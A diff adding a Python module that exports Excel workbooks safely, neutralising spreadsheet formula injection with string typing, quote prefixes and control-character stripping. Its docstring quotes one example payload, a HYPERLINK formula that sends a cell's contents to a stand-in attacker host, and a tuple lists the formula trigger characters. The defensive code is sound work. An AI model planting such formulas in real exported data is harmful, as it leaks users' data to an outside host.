@@ -1,0 +1,56 @@
+"""Writing spreadsheets safely; every export that writes a workbook goes through here. Imports no app.
+
+A text cell that starts with = + - @ (or tab, CR, LF) is a formula to a spreadsheet program, so a name such as
+`=HYPERLINK("http://evil.example/?leak="&A1)` would run on opening (OWASP: CSV injection). Every text is written
+as a string cell (never a formula) and, when it starts with one of those characters, with Excel's quote prefix:
+the cell shows the text as stored and stays text when edited. Control characters, which XLSX cannot hold, are
+dropped (tab and line breaks kept). `workbook_bytes` checks every cell once more before saving.
+"""
+
+import io
+from collections.abc import Iterable
+from typing import Any
+
+from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
+from openpyxl.worksheet.worksheet import Worksheet
+
+from core.validators import strip_control_characters
+
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width
+
+
+def safe_text(value: str) -> str:
+    """The text as a cell may hold it: control characters other than tab and line feed dropped."""
+    return strip_control_characters(str(value))
+
+
+def neutralise_cell(cell: Cell) -> Cell:
+    """Make a cell holding text a plain string cell: never a formula, quote-prefixed when it looks like one."""
+    if isinstance(cell.value, str):
+        text = safe_text(cell.value)
+        cell.value = text
+        cell.data_type = "s"
+        if text.startswith(FORMULA_TRIGGERS):
+            cell.quotePrefix = True
+    return cell
+
+
+def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
+    """`sheet.append(values)` with every text written as safe text (numbers and dates are kept as they are)."""
+    values = [safe_text(value) if isinstance(value, str) else value for value in values]
+    sheet.append(values)
+    for cell in sheet[sheet.max_row]:
+        neutralise_cell(cell)
+
+
+def workbook_bytes(workbook: Workbook) -> bytes:
+    """The workbook as the bytes of an .xlsx file; no text cell leaves as a formula, whatever wrote it."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                neutralise_cell(cell)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
